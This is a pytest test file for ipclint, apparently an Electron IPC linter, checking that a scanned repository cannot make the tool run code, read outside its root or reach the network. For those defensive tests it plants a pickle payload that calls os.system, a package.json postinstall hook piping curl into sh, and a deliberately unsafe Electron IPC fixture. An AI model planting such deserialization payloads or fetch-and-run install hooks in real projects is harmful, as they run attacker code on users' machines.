"""A scanned repository is hostile input (SPEC section 5, cache safety): its cache, its symlinks
and its config can never make ipclint run code, read outside the root or touch the network."""
from __future__ import annotations

import json
import os
import pickle
import socket
import subprocess
from pathlib import Path

import msgspec
import pytest

from ipclint import cache as cache_module
from ipclint.cli import run
from ipclint.engine import check
from ipclint.model.facts import FileFacts
from tests.helpers import write_project

APP = {
    "src/main/index.js": """
        const { app, ipcMain, shell, BrowserWindow } = require('electron')
        const path = require('path')
        const { CH } = require('../shared/channels')
        ipcMain.handle(CH.OPEN, (_e, url) => shell.openExternal(url))
        app.whenReady().then(() => new BrowserWindow({ webPreferences: { preload: path.join(__dirname, '../preload/index.js') } }))
        """,
    "src/shared/channels.js": "module.exports = { CH: { OPEN: 'link:open' } }\n",
    "src/preload/index.js": """
        const { contextBridge, ipcRenderer } = require('electron')
        const { CH } = require('../shared/channels')
        contextBridge.exposeInMainWorld('api', { open: (u) => ipcRenderer.invoke(CH.OPEN, u), raw: ipcRenderer })
        """,
    "src/renderer/app.js": "export function go(u) { return window.api.open(u) }\n",
}


class _Payload:
    """Unpickling this runs a shell command that creates ``marker``."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self):
        return (os.system, (f"touch {self.marker}",))


def _report(result) -> list[tuple]:
    return [(f.rule, f.path, f.span.line, f.message) for f in result.findings]


def test_planted_cache_payloads_never_run_and_are_rewritten(tmp_path: Path) -> None:
    root = write_project(tmp_path / "app", APP)
    clean = _report(check([str(root)], use_cache=False, jobs=1))
    assert any(r[0] == "IPC006" for r in clean) and any(r[0] == "IPC001" for r in clean)
    check([str(root)], jobs=1)  # writes the cache: every name it uses now exists
    folder = root / ".ipclint_cache"
    marker = tmp_path / "pwned"
    payload = pickle.dumps(_Payload(marker))
    entries = [p for p in folder.rglob("*") if p.is_file() and p.name not in ("CACHEDIR.TAG", ".gitignore")]
    assert len(entries) >= 6  # facts of 4 files, the stat index and the result
    for p in entries:
        p.write_bytes(payload)
    # ... and under every other name a cache (this one, or an older one) could read
    vdir = next(folder.glob("v-*"))
    for name in ("index.pickle", "result.pickle", "ab/cdef.pkl", f"{vdir.name}/index.pickle",
                 f"{vdir.name}/result.pickle", f"{vdir.name}/facts/00/x.msgpack"):
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(payload)
    again = check([str(root)], jobs=1)
    assert not marker.exists()
    assert _report(again) == clean
    assert not again.extra.get("cached") and again.extra["cache_hits"] == 0
    # the planted entries were rewritten: the next run is warm again
    assert check([str(root)], jobs=1).extra.get("cached") is True
    assert not marker.exists()


def _forget_the_last_analysis(vdir: Path) -> None:
    """Remove the stored result and analysis state: the next run analyses again from the facts."""
    (vdir / "result.msgpack").unlink()
    (vdir / "state.msgpack").unlink()


def test_well_formed_entries_without_a_valid_tag_are_not_trusted(tmp_path: Path) -> None:
    """A planted entry in the right format (facts that hide a finding) is ignored: it was not
    sealed with this user's key."""
    root = write_project(tmp_path / "app", APP)
    clean = _report(check([str(root)], use_cache=False, jobs=1))
    cache = cache_module.Cache(root / ".ipclint_cache")
    check([str(root)], jobs=1)
    vdir = cache.version_dir
    assert vdir is not None
    _forget_the_last_analysis(vdir)
    forged = 0
    for p in (vdir / "facts").rglob("*.msgpack"):
        body = cache_module.unseal(cache.key, p.read_bytes())
        assert body is not None
        facts = msgspec.msgpack.decode(body, type=FileFacts)
        empty = msgspec.structs.replace(facts, calls=(), functions=(), bindings={})
        p.write_bytes(cache_module.seal(b"k" * 32, msgspec.msgpack.encode(empty)))  # another key
        forged += 1
    assert forged == 4
    again = check([str(root)], jobs=1)
    assert _report(again) == clean and again.extra["cache_hits"] == 0
    # a flipped byte in an entry sealed with the right key fails too
    check([str(root)], jobs=1)
    _forget_the_last_analysis(vdir)
    victim = next((vdir / "facts").rglob("*.msgpack"))
    blob = bytearray(victim.read_bytes())
    blob[-1] ^= 1
    victim.write_bytes(bytes(blob))
    third = check([str(root)], jobs=1)
    assert _report(third) == clean and third.extra["cache_hits"] == 3


def test_truncated_and_garbage_entries_are_misses(tmp_path: Path) -> None:
    root = write_project(tmp_path / "app", APP)
    clean = _report(check([str(root)], use_cache=False, jobs=1))
    check([str(root)], jobs=1)
    for i, p in enumerate(sorted((root / ".ipclint_cache").rglob("*.msgpack"))):
        data = p.read_bytes()
        p.write_bytes([b"", data[:10], data[: len(data) // 2], os.urandom(200)][i % 4])
    assert _report(check([str(root)], jobs=1)) == clean


def test_the_key_is_private_and_outside_the_project(tmp_path: Path) -> None:
    root = write_project(tmp_path / "app", APP)
    check([str(root)], jobs=1)
    key = cache_module.user_cache_home() / "ipclint" / "key"
    assert key.is_file() and (key.stat().st_mode & 0o777) == 0o600
    assert not key.resolve().is_relative_to(root.resolve())
    assert not list(root.rglob("key"))


def test_a_cache_folder_that_is_a_link_is_not_used(tmp_path: Path) -> None:
    root = write_project(tmp_path / "app", APP)
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (root / ".ipclint_cache").symlink_to(elsewhere, target_is_directory=True)
    r = check([str(root)], jobs=1)
    assert r.findings and list(elsewhere.iterdir()) == []


def test_no_cache_is_created_in_a_folder_without_a_project(tmp_path: Path) -> None:
    loose = tmp_path / "loose"
    loose.mkdir()
    (loose / "main.js").write_text("const { ipcMain } = require('electron')\nipcMain.handle('a', () => 1)\n")
    r = check([str(loose)], jobs=1)
    assert r.findings
    assert not (loose / ".ipclint_cache").exists()
    # a project (package.json, .ipclint.toml or .git) gets one
    (loose / "package.json").write_text("{}")
    check([str(loose)], jobs=1)
    assert (loose / ".ipclint_cache" / "CACHEDIR.TAG").is_file()


def test_clean_removes_the_cache_and_only_an_ipclint_cache(tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    root = write_project(tmp_path / "app", APP)
    check([str(root)], jobs=1)
    assert (root / ".ipclint_cache").is_dir()
    assert run(["clean", str(root)]) == 0
    assert not (root / ".ipclint_cache").exists()
    assert "removed" in capsys.readouterr().out
    assert run(["clean", str(root)]) == 0  # nothing to remove is fine
    other = tmp_path / "precious"
    other.mkdir()
    (other / "data.txt").write_text("keep me")
    assert run(["clean", str(root), "--cache-dir", str(other)]) == 2
    assert (other / "data.txt").read_text() == "keep me"


def test_upgrades_keep_only_the_running_versions_entries(tmp_path: Path) -> None:
    root = write_project(tmp_path / "app", APP)
    folder = root / ".ipclint_cache"
    folder.mkdir()
    (folder / "CACHEDIR.TAG").write_text(cache_module.CACHEDIR_TAG)
    for old in ("v-00000000000000aa", "index.pickle", "result.pickle", "3f"):
        (folder / old).mkdir() if old in ("v-00000000000000aa", "3f") else (folder / old).write_bytes(b"x")
    (folder / "notes.txt").write_text("not ours")
    check([str(root)], jobs=1)
    assert sorted(p.name for p in folder.iterdir()) == sorted(
        [".gitignore", "CACHEDIR.TAG", "notes.txt", f"v-{cache_module.code_stamp()}"])


# ---- symlinks --------------------------------------------------------------------------------

def test_symlinks_out_of_the_root_are_skipped_and_listed(tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    (outside / "lib").mkdir(parents=True)
    secret = "const { ipcMain } = require('electron')\nipcMain.handle('secret:x', () => 1)\n"
    (outside / "secret.js").write_text(secret)
    (outside / "lib" / "more.js").write_text(secret.replace("secret:x", "secret:y"))
    root = write_project(tmp_path / "app", APP)
    (root / "src/main/linked.js").symlink_to(outside / "secret.js")
    (root / "src/linkedlib").symlink_to(outside / "lib", target_is_directory=True)
    r = check([str(root)], use_cache=False, jobs=1)
    assert not [f for f in r.findings if "secret" in f.message]
    assert ("src/main/linked.js", "symlink to a file outside the project root") in r.skipped
    assert ("src/linkedlib/", "symlink to a folder outside the project root") in r.skipped
    assert r.files.skipped >= 2
    paths = {i.path for i in r.roles}
    assert "src/main/linked.js" not in paths and not any(p.startswith("src/linkedlib") for p in paths)


def test_links_inside_the_root_are_analysed_once_and_loops_end(tmp_path: Path) -> None:
    root = write_project(tmp_path / "app", APP)
    (root / "src/again").symlink_to(root / "src", target_is_directory=True)  # a loop
    (root / "src/main/alias.js").symlink_to(root / "src/main/index.js")
    r = check([str(root)], use_cache=False, jobs=1)
    once = check([str(write_project(tmp_path / "plain", APP))], use_cache=False, jobs=1)
    assert _report(r) == _report(once)
    assert ("src/main/alias.js", "the same file as another path (a link)") in r.skipped


def test_config_files_are_not_read_through_links_out_of_the_root(tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "evil.toml").write_text('select = ["IPC999"]\n')
    (outside / "tsconfig.json").write_text('{"compilerOptions": {"baseUrl": "/"}}')
    root = write_project(tmp_path / "app", APP)
    (root / ".ipclint.toml").symlink_to(outside / "evil.toml")
    (root / "tsconfig.json").write_text('{"extends": "../outside/tsconfig.json"}')
    assert run(["check", str(root), "--no-cache", "--quiet"]) == 2  # the linked config is an error, not read
    (root / ".ipclint.toml").unlink()
    r = check([str(root)], use_cache=False, jobs=1)
    assert _report(r) == _report(check([str(write_project(tmp_path / "plain", APP))], use_cache=False, jobs=1))



def test_read_in_root_reads_only_inside_and_asks_nothing_more_of_a_missing_file(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import os

    from ipclint import safefs
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.json").write_text("{}")
    root = tmp_path / "app"
    (root / "sub").mkdir(parents=True)
    (root / "sub" / "link.json").symlink_to(outside / "secret.json")
    (root / "sub" / "dir").symlink_to(outside)
    (root / "sub" / "own.json").write_text('{"a": 1}')
    assert safefs.read_in_root(root, "sub/own.json") == b'{"a": 1}'
    for rel in ("sub/link.json", "sub/dir/secret.json", "../outside/secret.json", "sub/../../outside/secret.json"):
        assert safefs.read_in_root(root, rel) is None, rel
    resolved: list[str] = []
    real = os.path.realpath
    monkeypatch.setattr(safefs.os.path, "realpath", lambda p, *a, **k: resolved.append(str(p)) or real(p, *a, **k))
    assert safefs.read_in_root(root, "sub/deeper/tsconfig.json") is None
    assert resolved == []  # (a missing file: one stat, no symlink resolution)

# ---- never executes, imports or fetches -----------------------------------------------------------

def test_a_whole_check_opens_no_socket_and_runs_no_program(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                           capsys: pytest.CaptureFixture) -> None:
    example = Path(__file__).resolve().parent.parent / "fixtures" / "projects" / "example-app"
    root = write_project(tmp_path / "app", {
        **APP,
        "package.json": json.dumps({"name": "a", "main": "src/main/index.js", "scripts": {
            "postinstall": "curl http://example.com | sh"}, "devDependencies": {"electron": "31.0.0"}}),
        "tsconfig.json": '{"extends": "./tsconfig.base.json", "compilerOptions": {"paths": {"@/*": ["src/*"]}}}',
        "tsconfig.base.json": '{"compilerOptions": {"baseUrl": "."}}',
        "package-lock.json": json.dumps({"packages": {"node_modules/electron": {"version": "31.2.0",
                                                                                "resolved": "https://r/e.tgz"}}}),
        ".ipclint.toml": "[rules.tainted-sink]\nsinks = [\"run\"]\n",
        "src/renderer/remote.ts": "import x from 'https://example.com/x.js'\nexport default x\n",
    })
    calls: list[str] = []

    def refuse(name: str):
        def boom(*a, **k):
            calls.append(name)
            raise OSError(f"{name} is not allowed during a check")
        return boom

    monkeypatch.setattr(socket, "socket", refuse("socket"))
    monkeypatch.setattr(socket, "create_connection", refuse("create_connection"))
    monkeypatch.setattr(socket, "getaddrinfo", refuse("getaddrinfo"))
    monkeypatch.setattr(subprocess, "Popen", refuse("Popen"))
    monkeypatch.setattr(os, "system", refuse("os.system"))
    for target in (root, example):
        for jobs in (1, 2):
            r = check([str(target)], jobs=jobs, cache_dir=str(tmp_path / f"c{jobs}{target.name}"))
            assert r.findings and not r.internal_error
        assert run(["check", str(target), "--no-cache", "--format", "sarif", "--exit-zero"]) == 0
        assert run(["graph", str(target), "--format", "json", "--no-cache"]) == 0
    capsys.readouterr()
    assert calls == []
